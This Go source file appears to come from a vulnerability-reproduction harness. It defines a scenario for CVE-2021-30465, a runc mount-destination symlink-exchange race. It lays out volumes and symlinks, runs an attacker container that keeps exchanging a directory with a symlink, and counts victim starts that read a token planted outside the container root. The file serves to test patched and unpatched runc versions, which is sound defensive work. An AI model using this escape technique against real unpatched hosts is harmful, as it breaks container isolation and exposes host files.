package cve202130465

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/relapse-dev/relapse/harness/fixture"
	"github.com/relapse-dev/relapse/harness/report"
	"github.com/relapse-dev/relapse/harness/runckit"
	"github.com/relapse-dev/relapse/harness/scenario"
	"github.com/relapse-dev/relapse/harness/versions"
)

// Name is the scenario's name on the command line: the upstream id.
const Name = "cve-2021-30465"

// KindMountEscape is the finding: a victim container read the token
// relapse planted outside its root.
const KindMountEscape = "mount-destination-swapped-outside-root"

// ruleOut is the per-repetition rate NOT REPRODUCED must exclude: rc94 and
// rc95 with the fix reverted escaped in every repetition measured here
// (see Sampling), far above it.
const ruleOut = 0.7

// Inside the containers: the shared volume, the name the victim mounts
// its second volume onto (a directory the attacker keeps exchanging with
// a symlink to the volumes' parent), and the second mount of the second
// volume, which the misplaced first one redirects to the planted
// directory.
const (
	sharedDest = "/shared"
	swapName   = "mnt"
	swapLink   = "mnt-tmp"
	viewDest   = "/shared/view"
	markerName = "relapse-marker"
)

// Scenario is CVE-2021-30465, the mount destination symlink-exchange race.
type Scenario struct{}

func init() { scenario.Register(Scenario{}) }

func (Scenario) Name() string { return Name }

// Bug is exported for the suites, which label specs with it.
var Bug = report.Bug{
	ID:    "CVE-2021-30465",
	Fix:   "runc 0ca91f44f166",
	Title: "runc up to v1.0.0-rc94 follows a bind mount destination swapped for a symlink out of the container's root (symlink-exchange race, container escape)",
	Summary: "runc up to v1.0.0-rc94 resolves a mount's destination inside the container's root with securejoin, then calls " +
		"mount(2) on the resulting path string. A container sharing the volume that holds the destination can exchange it " +
		"for a symlink in between (renameat2 RENAME_EXCHANGE), so the mount lands where the symlink points, outside the root " +
		"(in runc's rslave mount namespace, not the host's). A later mount whose source path runs through that place then " +
		"takes an attacker-chosen source: with two volumes and three mounts the container gets a host directory of the " +
		"attacker's choosing, up to the host's /. The advisory is public and fixed: v1.0.0-rc95 (commit 0ca91f44) mounts " +
		"through an O_PATH fd and refuses when its /proc/self/fd path left the root (\"possibly malicious path detected\").",
	Links: []report.Link{
		{Title: "GHSA-c3xm-pvg7-gh7r / CVE-2021-30465: runc mount destinations can be swapped via symlink-exchange to cause mounts outside the rootfs (public, fixed in v1.0.0-rc95)", URL: "https://github.com/opencontainers/runc/security/advisories/GHSA-c3xm-pvg7-gh7r"},
		{Title: "opencontainers/runc commit 0ca91f44: rootfs: add mount destination validation (the fix)", URL: "https://github.com/opencontainers/runc/commit/0ca91f44f1664da834bc61115a849b56d22f595f"},
		{Title: "runc v1.0.0-rc95 release (the first fixed release)", URL: "https://github.com/opencontainers/runc/releases/tag/v1.0.0-rc95"},
		{Title: "Etienne Champetier: runc mount destinations can be swapped via symlink-exchange (the reporter's write-up and Kubernetes proof of concept)", URL: "http://blog.champtar.fr/runc-symlink-CVE-2021-30465/"},
	},
	Component:  "runc",
	Affected:   "< 1.0.0-rc95",
	Introduced: "every runc the advisory lists (<= v1.0.0-rc94); the oldest relapse can build is rc91",
	Fixed:      "v1.0.0-rc95 (commit 0ca91f44 mounts through an O_PATH fd checked to stay inside the root)",
}

func (Scenario) Bug() report.Bug { return Bug }

// Sampling: a race, so repetitions, each of many starts.
func (Scenario) Sampling() report.Sampling {
	return report.Sampling{RuleOut: ruleOut,
		Why: "each repetition is 100 victim starts under the exchange. Measured here (2 cores, load average 20-33 from other runs): " +
			"rc94 escaped in 37 of 800 starts (4.6%), and all 8 repetitions of 100 reproduced (Wilson 95% 0.68-1.00); rc95 with " +
			"0ca91f44 reverted escaped in 4 of 100. At 4.6% per start a repetition misses with probability under 1%, so 0.7 is a safe floor",
		Fresh: "a new attacker container and 101 victim starts in a fresh runc state root, fresh volumes and a new token (~40 s)"}
}

func (Scenario) Components() []versions.Builder { return []versions.Builder{versions.RuncRecipe} }

func (Scenario) Params() []scenario.Param {
	return []scenario.Param{
		scenario.IntParam("attempts", 100, 1, 1000, "victim starts while the attacker exchanges the destination (after one control start without it)"),
		scenario.DurationParam("attempt-timeout", "20s", false, "how long one victim start may take before it ends unclassified"),
	}
}

// layout is the run's volumes and planted directory on the node.
type layout struct {
	volumes string // the volumes' parent, where the misplaced mount lands
	shared  string // volume 1, shared by attacker and victim
	second  string // volume 2, mounted twice by the victim
	planted string // the "host" directory the escape reaches
	token   string // what the planted marker holds
}

// plant makes the layout under dir: the exchange pair in the shared
// volume, and in the second volume a symlink named like the volume
// itself that points to the planted directory (followed only once the
// second volume sits on the volumes' parent).
func plant(ctx context.Context, env *scenario.Env) (layout, error) {
	dir := filepath.Join(env.Dir, "cve")
	raw := make([]byte, 16)
	if _, err := rand.Read(raw); err != nil {
		return layout{}, fmt.Errorf("making the marker token: %w", err)
	}
	l := layout{volumes: filepath.Join(dir, "volumes"), planted: filepath.Join(dir, "planted"), token: "relapse-" + hex.EncodeToString(raw)}
	l.shared, l.second = filepath.Join(l.volumes, "shared"), filepath.Join(l.volumes, "second")
	n := env.Node
	steps := [][]string{
		{"mkdir", "-p", filepath.Join(l.shared, swapName), l.second, l.planted},
		{"ln", "-s", l.volumes, filepath.Join(l.shared, swapLink)},
		{"ln", "-s", l.planted, filepath.Join(l.second, filepath.Base(l.second))},
	}
	for _, s := range steps {
		if err := n.Command(s[0], s[1:]...).Run(ctx); err != nil {
			return l, fmt.Errorf("laying out the volumes: %w", err)
		}
	}
	if err := n.WriteFile(ctx, filepath.Join(l.planted, markerName), []byte(l.token), 0o644); err != nil {
		return l, fmt.Errorf("planting the marker: %w", err)
	}
	return l, nil
}

func bind(source, dest string) specs.Mount {
	return specs.Mount{Destination: dest, Type: "bind", Source: source, Options: []string{"rbind"}}
}

func (s Scenario) Run(ctx context.Context, env *scenario.Env) (report.Result, string, error) {
	kit, err := runckit.New(ctx, env, runckit.Options{})
	if err != nil {
		return report.Inconclusive, "", err
	}
	l, err := plant(ctx, env)
	if err != nil {
		return report.Inconclusive, "", err
	}
	viewPath := viewDest + "/" + markerName
	victim := kit.Config(fixture.ConfigOptions{Args: []string{"/init", "read=" + viewPath}})
	// The order is the attack: volume 1, volume 2 onto the swapped name,
	// volume 2 again by a source path under the volumes' parent.
	victim.Mounts = append(victim.Mounts, bind(l.shared, sharedDest), bind(l.second, sharedDest+"/"+swapName), bind(l.second, viewDest))
	victimDir, err := kit.Bundle(ctx, "victim", victim)
	if err != nil {
		return report.Inconclusive, "", err
	}
	if err := kit.SaveBundle(victim, "victim", "the victim: the shared volume, the second volume onto "+sharedDest+"/"+swapName+" and again onto "+viewDest); err != nil {
		return report.Inconclusive, "", err
	}
	env.Condition("layout", fmt.Sprintf("volumes %s (shared, second); planted directory %s with %s; in shared, %s (a directory) and %s -> %s; in second, %s -> %s",
		l.volumes, l.planted, markerName, swapName, swapLink, l.volumes, filepath.Base(l.second), l.planted))

	timeout := env.Params.Duration("attempt-timeout")
	try := func(n int, label string) start {
		o := kit.Try(ctx, runckit.Try{N: n, Bundle: victimDir, Timeout: timeout, Label: label})
		st := start{started: o.Started, read: o.Init.Reads[viewPath], failure: o.Failure}
		if !o.Started {
			if out, err := env.Node.ReadFile(ctx, kit.OutputFile(n)); err == nil {
				st.output = strings.TrimSpace(string(out))
			}
		}
		return st
	}
	control := try(0, "control: the victim without the attacker")

	att, err := startAttacker(ctx, kit, l)
	if err != nil {
		return report.Inconclusive, "", err
	}
	var t tally
	for i := 1; i <= env.Params.Int("attempts") && ctx.Err() == nil; i++ {
		t.add(try(i, "victim while the attacker exchanges "+sharedDest+"/"+swapName), l.token)
	}
	swaps, err := att.stop(ctx, kit)
	if err != nil {
		return report.Inconclusive, "", err
	}
	env.Condition("attacker", fmt.Sprintf("a container with the shared volume at %s exchanged %s and %s %d times (renameat2 RENAME_EXCHANGE) while the victims started",
		sharedDest, swapName, swapLink, swaps.Swaps))
	if swaps.Error != "" {
		env.Condition("attacker stopped by", swaps.Error)
	}
	if t.firstRefusal != "" {
		env.Evidence("the first start runc refused", t.firstRefusal)
	}
	res, reason, f := judge(control, t, swaps, l.token, l.planted)
	if f != nil {
		env.Finding(*f)
	}
	return res, reason, nil
}

// start is what one victim start showed.
type start struct {
	started bool
	// read is what the victim's init read at the view path, or "error: ...".
	read string
	// output is runc's output when the victim did not start.
	output  string
	failure string
}

// refusal is what a fixed runc says when the destination left the root.
const refusal = "possibly malicious path detected"

// tally counts the victim starts under the exchange.
type tally struct {
	n, started, escaped, refused, failed int
	firstRefusal                         string
}

func (t *tally) add(s start, token string) {
	t.n++
	switch {
	case s.started && s.read == token:
		t.escaped++
	case s.started:
		t.started++
	case strings.Contains(s.output, refusal):
		t.refused++
		if t.firstRefusal == "" {
			t.firstRefusal = s.output
		}
	default:
		t.failed++
	}
}

// attackerReport is the attacker init's last line.
type attackerReport struct {
	Swaps int64  `json:"swaps"`
	Error string `json:"error"`
}

// judge decides. REPRODUCED needs the control to start without seeing the
// token and a victim to read it; NOT REPRODUCED needs the attacker to have
// exchanged throughout and at least half the victims to have started (an
// escape shows only in a started victim) without one reading it.
func judge(control start, t tally, att attackerReport, token, planted string) (report.Result, string, *report.Finding) {
	if !control.started {
		return report.Inconclusive, "the control victim (no attacker) did not start: " + control.failure + "; this runc or bundle does not work here", nil
	}
	if control.read == token {
		return report.Inconclusive, "the control victim read the planted token without any attacker: the layout, not runc, exposes it", nil
	}
	rate := report.NewRate(t.escaped, t.n)
	counts := fmt.Sprintf("of %d starts under the exchange %d escaped, %d started without reaching it, runc refused %d (%q) and %d failed otherwise",
		t.n, t.escaped, t.started, t.refused, refusal, t.failed)
	if t.escaped > 0 {
		f := &report.Finding{Detector: "planted-marker", Kind: KindMountEscape, At: time.Now(), Samples: t.n,
			Summary: fmt.Sprintf("in %s starts the victim read the token relapse planted in %s, outside its root, at %s: a mount destination swapped for a symlink was followed",
				rate, planted, viewDest+"/"+markerName),
			Reasons: []string{
				"the control victim, the same config without the attacker, started and could not read the token (" + control.read + ")",
				counts,
				fmt.Sprintf("the attacker made %d exchanges", att.Swaps),
			}}
		return report.Reproduced, f.Summary, f
	}
	if att.Swaps == 0 {
		return report.Inconclusive, "the attacker made no exchange (" + att.Error + "): the race was not run; " + counts, nil
	}
	if 2*t.started < t.n {
		return report.Inconclusive, "fewer than half the victims started, so an escape had little chance to show: " + counts, nil
	}
	return report.NotReproduced, fmt.Sprintf("no victim read the planted token in %s starts while the attacker made %d exchanges: %s", rate, att.Swaps, counts), nil
}

// attacker is the running attacker container.
type attacker struct{ *runckit.Detached }

// startAttacker runs the attacker detached: the shared volume, and the
// init exchanging the two names until SIGTERM.
func startAttacker(ctx context.Context, kit *runckit.Kit, l layout) (*attacker, error) {
	spec := kit.Config(fixture.ConfigOptions{Args: []string{"/init", "swap=" + sharedDest + "/" + swapName + ":" + sharedDest + "/" + swapLink}})
	spec.Mounts = append(spec.Mounts, bind(l.shared, sharedDest))
	dir, err := kit.Bundle(ctx, "attacker", spec)
	if err != nil {
		return nil, err
	}
	if err := kit.SaveBundle(spec, "attacker", "the attacker: the shared volume, exchanging "+swapName+" and "+swapLink+" in it"); err != nil {
		return nil, err
	}
	d, err := kit.RunDetached(ctx, "attacker", dir)
	if err != nil {
		return nil, err
	}
	a := &attacker{d}
	// Its report line comes right before the exchange loop.
	if _, err := a.line(ctx, kit, `"ok":true`); err != nil {
		return nil, err
	}
	return a, nil
}

// stop sends the attacker SIGTERM, reads how many exchanges it made and
// deletes it.
func (a *attacker) stop(ctx context.Context, kit *runckit.Kit) (attackerReport, error) {
	defer func() { _ = a.Delete(context.WithoutCancel(ctx)) }()
	var r attackerReport
	if err := kit.Env.Node.Kill(ctx, a.PID, int(syscall.SIGTERM)); err != nil {
		return r, fmt.Errorf("stopping the attacker: %w", err)
	}
	line, err := a.line(ctx, kit, `"swaps"`)
	if err != nil {
		return r, err
	}
	if err := json.Unmarshal([]byte(line), &r); err != nil {
		return r, fmt.Errorf("the attacker's last line %q: %w", line, err)
	}
	return r, nil
}

// line waits up to 10 s for a line holding want in the attacker's output.
func (a *attacker) line(ctx context.Context, kit *runckit.Kit, want string) (string, error) {
	deadline := time.Now().Add(10 * time.Second)
	for {
		out, err := kit.Env.Node.ReadFile(ctx, a.Output)
		if err == nil {
			for _, line := range strings.Split(string(out), "\n") {
				if strings.Contains(line, want) {
					return line, nil
				}
			}
		}
		if time.Now().After(deadline) {
			return "", fmt.Errorf("the attacker printed no line with %s within 10 s: %q", want, out)
		}
		select {
		case <-ctx.Done():
			return "", ctx.Err()
		case <-time.After(50 * time.Millisecond):
		}
	}
}
